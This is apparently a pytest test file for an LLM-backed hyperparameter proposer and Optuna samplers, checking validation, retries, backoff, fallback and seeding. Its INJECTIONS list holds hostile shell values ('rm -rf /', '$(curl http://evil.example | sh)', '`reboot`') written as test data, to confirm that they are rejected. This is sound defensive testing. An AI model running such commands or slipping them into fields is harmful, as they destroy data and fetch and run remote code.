"""Proposers against a real OpenAI client over loopback HTTP, and the Optuna samplers' seeding."""

from __future__ import annotations

import json
import random

import pytest

from experiments.space import SpaceError
from orchestrator.agent.proposers.base import Observation
from orchestrator.agent.proposers.factory import default_name, make
from orchestrator.agent.proposers.hybrid import HybridProposer
from orchestrator.agent.proposers.llm import LLMProposer, parse_answer
from orchestrator.agent.proposers.optuna_ import SamplerProposer
from orchestrator.agent.search import fixed_params, reduced
from tests.agent.fake_llm import FakeLLM, ok, sleep, status
from tests.agent.synthetic import SPEC

KEY = "sk-test-DO-NOT-LEAK-4f1c2b"
INJECTIONS = ["0.5; rm -rf /", "$(curl http://evil.example | sh)", "`reboot`", "a && touch /tmp/pwned"]


def good(n: int = 1, x: float = 1.0) -> str:
    return json.dumps({"proposals": [{"params": {"x": x + 0.1 * i, "y": -1.5, "kind": "b"},
                                      "rationale": "move toward the bowl's centre"} for i in range(n)]})


def default_good(body: dict) -> object:
    return ok(good(1, x=random.uniform(-4, 4)))


@pytest.fixture
def llm_env(monkeypatch):
    def use(fake: FakeLLM) -> None:
        monkeypatch.setenv("OPENAI_BASE_URL", fake.base_url)
        monkeypatch.setenv("OPENAI_API_KEY", KEY)
    return use


def proposer(**kw) -> LLMProposer:
    kw.setdefault("backoff", 0.01)
    kw.setdefault("timeout", 1.0)
    return LLMProposer(SPEC, "minimise the loss", fallback=SamplerProposer(SPEC, "tpe", seed=1), **kw)


def test_good_answer_is_validated_and_keeps_rationale_and_usage(llm_env):
    with FakeLLM([ok(good(2))]) as fake:
        llm_env(fake)
        p = proposer()
        out = p.propose(2, [])
    assert [o.proposer for o in out] == ["llm", "llm"]
    assert out[0].params == SPEC.space.validate({"x": 1.0, "y": -1.5, "kind": "b"})
    assert out[0].rationale == "move toward the bowl's centre"
    assert p.usage["calls"] == 1 and p.usage["prompt_tokens"] > 0 and p.usage["completion_tokens"] > 0
    assert p.usage["cost_usd"] > 0  # gpt-4o-mini has a known price
    req = fake.requests[0]
    assert req["authorization"] == f"Bearer {KEY}"  # the key goes to the endpoint, and only there
    prompt = req["body"]["messages"][1]["content"]
    assert "minimise the loss" in prompt and '"name": "x"' in prompt and "Best so far" in prompt


@pytest.mark.parametrize("bad", [
    "this is not json {",
    json.dumps({"proposals": [{"params": {"x": 99.0, "y": 0, "kind": "a"}}]}),  # out of range
    json.dumps({"proposals": [{"params": {"x": 0.0, "y": 0, "kind": "a", "lr": 0.1}}]}),  # unknown key
    json.dumps({"proposals": [{"params": {"x": INJECTIONS[0], "y": 0, "kind": "a"}}]}),
    json.dumps({"proposals": [{"params": {"x": 0.0, "y": 0, "kind": INJECTIONS[1]}}]}),
    json.dumps({"params": "rm -rf /"}),
    json.dumps(["not", "an", "object"]),
])
def test_bad_answers_are_rejected_then_reasked(llm_env, bad):
    with FakeLLM([ok(bad), ok(good(1))]) as fake:
        llm_env(fake)
        p = proposer()
        out = p.propose(1, [])
    assert len(fake.requests) == 2  # one re-ask
    assert "rejected" in fake.requests[1]["body"]["messages"][-1]["content"]
    assert out[0].proposer == "llm" and SPEC.space.validate(out[0].params) == out[0].params
    assert p.usage["rejected"] == 1


def test_bounded_reasks_then_sampler_fallback(llm_env):
    bad = [ok(json.dumps({"proposals": [{"params": {"x": s, "y": 0, "kind": "a"}}]})) for s in INJECTIONS]
    with FakeLLM(bad, default=lambda body: ok("{nope")) as fake:
        llm_env(fake)
        p = proposer(max_reasks=2)
        out = p.propose(2, [])
    assert len(fake.requests) == 3  # the question and two re-asks, no more
    assert [o.proposer for o in out] == ["tpe", "tpe"] and p.usage["fallbacks"] == 2
    for o in out:
        assert SPEC.space.validate(o.params) == o.params
        assert not any(s in json.dumps(o.params) for s in INJECTIONS)


def test_retries_on_429_500_and_timeout_with_backoff(llm_env):
    script = [status(429), status(500), sleep(2.5, ok(good(1))), status(503), ok(good(1))]
    with FakeLLM(script) as fake:
        llm_env(fake)
        p = proposer(timeout=1.0, retries=5)
        out = p.propose(1, [])
    assert out[0].proposer == "llm"
    assert p.usage["retries"] == 4 and len(fake.requests) == 5


@pytest.mark.parametrize("code", [400, 401, 403, 404, 422])
def test_non_retryable_4xx_is_asked_once_then_the_sampler_fills_in(llm_env, code):
    with FakeLLM([status(code)], default=lambda body: ok(good(2))) as fake:
        llm_env(fake)
        p = proposer(retries=4)
        out = p.propose(2, [])
    assert len(fake.requests) == 1  # retrying a bad request, a bad key or a missing model cannot help
    assert [o.proposer for o in out] == ["tpe", "tpe"] and p.usage["retries"] == 0 and p.usage["fallbacks"] == 2


def test_retry_after_is_honoured_up_to_30_seconds(llm_env, monkeypatch):
    from orchestrator.agent import llmclient

    waits: list[float] = []
    monkeypatch.setattr(llmclient, "_sleep", waits.append)  # record the waits instead of sitting them out
    with FakeLLM([status(429, retry_after="2"), status(429, retry_after="3600"), status(429, retry_after="soon"),
                  ok(good(1))]) as fake:
        llm_env(fake)
        p = proposer(retries=5, backoff=0.01)
        out = p.propose(1, [])
    assert out[0].proposer == "llm" and len(fake.requests) == 4
    assert waits[:2] == [2.0, 30.0]  # as asked; an hour is capped at 30 s
    assert 0 < waits[2] < 1  # an unreadable header: the exponential backoff instead


def test_endpoint_down_falls_back_to_sampler(llm_env):
    with FakeLLM(default=lambda body: status(500)) as fake:
        llm_env(fake)
        p = proposer(retries=2)
        out = p.propose(3, [])
    assert len(fake.requests) == 3 and [o.proposer for o in out] == ["tpe"] * 3


def test_parse_rejects_repeats_and_clips_rationale():
    tried = [SPEC.space.validate({"x": 1.0, "y": -1.5, "kind": "b"})]
    text = json.dumps({"proposals": [{"params": {"x": 1.0, "y": -1.5, "kind": "b"}},
                                     {"params": {"x": 2.0, "y": -1.5, "kind": "b"}, "rationale": "r\x00" * 400}]})
    out, errors = parse_answer(text, SPEC, 2, tried)
    assert len(out) == 1 and "already tried" in errors[0]
    assert len(out[0].rationale) <= 500 and "\x00" not in out[0].rationale


def test_hybrid_replaces_at_most_its_share(llm_env):
    with FakeLLM(default=default_good) as fake:
        llm_env(fake)
        h = HybridProposer(SamplerProposer(SPEC, "tpe", seed=0), proposer(), share=0.3)
        history: list[Observation] = []
        for _ in range(5):
            for p in h.propose(2, history):
                history.append(Observation(p.params, "complete", 1.0, proposer=p.proposer))
    llm_made = sum(o.proposer == "llm" for o in history)
    assert 1 <= llm_made <= 0.3 * len(history)


def test_sampler_is_seeded_by_history_including_hand_runs():
    # A history that concentrates the good results near x=1.5: TPE should propose near there.
    rng = random.Random(0)
    history = []
    for _ in range(30):
        x, y = rng.uniform(-5, 5), rng.uniform(-5, 5)
        history.append(Observation({"x": x, "y": y, "kind": "b"}, "complete", (x - 1.5) ** 2 + (y + 2) ** 2,
                                   source="by hand (human)"))
    searched = reduced(SPEC, fixed_params(SPEC, {}, 0))  # what a session searches: seed and budget fixed

    def near(kind: str) -> int:  # first proposals of 8 differently seeded samplers landing near the optimum
        firsts = [SamplerProposer(searched, kind, seed=s).propose(1, history)[0].params for s in range(8)]
        return sum(abs(p["x"] - 1.5) < 1.5 and abs(p["y"] + 2) < 1.5 for p in firsts)

    assert near("tpe") >= 5 and near("tpe") > near("random")
    tpe = SamplerProposer(searched, "tpe", seed=3)
    # Same history, same proposals: a resumed session proposes deterministically.
    assert [p.params for p in tpe.propose(3, history)] == [p.params for p in tpe.propose(3, history)]
    # Observations that no longer fit the space are skipped, not fatal.
    assert len(tpe.propose(1, history + [Observation({"x": 77}, "complete", 0.0)])) == 1


@pytest.mark.parametrize("kind", ["tpe", "cmaes", "random"])
def test_every_sampler_proposes_valid_params(kind):
    out = make(kind, SPEC, "goal", seed=1).propose(4, [Observation({"x": 0.0}, "running")])
    for p in out:
        assert SPEC.space.validate(p.params) == p.params


def test_default_is_llm_only_when_configured(monkeypatch):
    monkeypatch.delenv("OPENAI_API_KEY", raising=False)
    monkeypatch.delenv("OPENAI_BASE_URL", raising=False)
    assert default_name() == "tpe"
    monkeypatch.setenv("OPENAI_BASE_URL", "http://127.0.0.1:9/v1")
    assert default_name() == "llm"


def test_the_endpoint_model_and_price_in_config_toml_are_the_ones_used(tmp_path, monkeypatch):
    from orchestrator.core.config import Settings

    for name in ("OPENAI_API_KEY", "OPENAI_BASE_URL", "AUTORESEARCH_LLM_MODEL", "AUTORESEARCH_LLM_PRICE"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("AUTORESEARCH_HOME", str(tmp_path))
    with FakeLLM([ok(good(1))]) as fake:
        (tmp_path / "config.toml").write_text(f'llm_base_url = "{fake.base_url}"\nllm_model = "local-7b"\n'
                                              'llm_price = "1000000,0"\n')
        settings = Settings.load()
        assert default_name(settings) == "llm"  # the file's endpoint alone turns the LLM on
        p = LLMProposer(SPEC, "g", fallback=SamplerProposer(SPEC, "tpe", seed=1), settings=settings, timeout=5.0)
        out = p.propose(1, [])
    assert out[0].proposer == "llm" and len(fake.requests) == 1  # it went to the file's endpoint
    assert fake.requests[0]["body"]["model"] == "local-7b"
    assert p.usage["cost_usd"] == p.usage["prompt_tokens"]  # $1 per prompt token, as the file's price says


def test_space_rejects_injection_directly():
    for s in INJECTIONS:
        with pytest.raises(SpaceError):
            SPEC.space.validate({"x": s})


def test_tpe_starts_with_one_parameter_moves_that_build_on_the_incumbent():
    from experiments.digits.spec import SPEC as DIGITS

    searched = reduced(DIGITS, fixed_params(DIGITS, {"epochs": 6, "scale": 1}, 0))
    base = searched.space.validate({})
    tpe = SamplerProposer(searched, "tpe", seed=2, baseline=base)
    history = [Observation(base, "complete", 0.96, proposer="baseline")]
    moved = []
    for i in range(6):
        p = tpe.propose(1, history)[0].params
        changed = {k for k in p if p[k] != base.get(k)} - {"channels", "momentum"}  # inactive ones may be drawn
        moved.append(changed)
        # The third trial is the best so far: the later moves start from it, not from the baseline.
        history.append(Observation(p, "complete", 0.99 if i == 2 else 0.95, proposer="tpe"))
        if i == 2:
            base = p
    assert all(len(c) == 1 for c in moved[:3])  # one parameter each, on the baseline
    assert all(len(c) == 1 for c in moved[3:])  # one parameter each, on the new incumbent
    assert len(set().union(*moved)) == 6  # a different parameter every time
    # A branch switch (an MLP becoming a convnet at defaults tuned for the MLP) is never a one-parameter move.
    assert not any("arch" in c or "optimizer" in c for c in moved)


def test_cmaes_keeps_one_study_and_learns_from_its_own_asks():
    # CMA-ES learns only from trials it asked itself: rebuilt from add_trial each call it would sample its
    # starting distribution forever. One live study, told each result, moves on to later generations.
    searched = reduced(SPEC, fixed_params(SPEC, {}, 0))
    cma = SamplerProposer(searched, "cmaes", seed=0, baseline={"x": -4.0, "y": 4.0, "kind": "b"})
    history = [Observation({"x": 0.0, "y": 0.0, "kind": "a"}, "complete", 6.25, source="by hand (human)")]
    for _ in range(10):
        for p in cma.propose(2, history):
            history.append(Observation(p.params, "complete", (p.params["x"] - 1.5) ** 2 + (p.params["y"] + 2) ** 2,
                                       proposer="cmaes"))
    cma.propose(1, history)  # results are told on the next call
    study = cma._live
    told = [t for t in study.trials if t.value is not None and "cma:generation" in t.system_attrs]
    assert len(told) == 20 and len(study.trials) == 22  # its asks, told once each, the hand run, the last ask
    assert max(t.system_attrs["cma:generation"] for t in told) >= 2
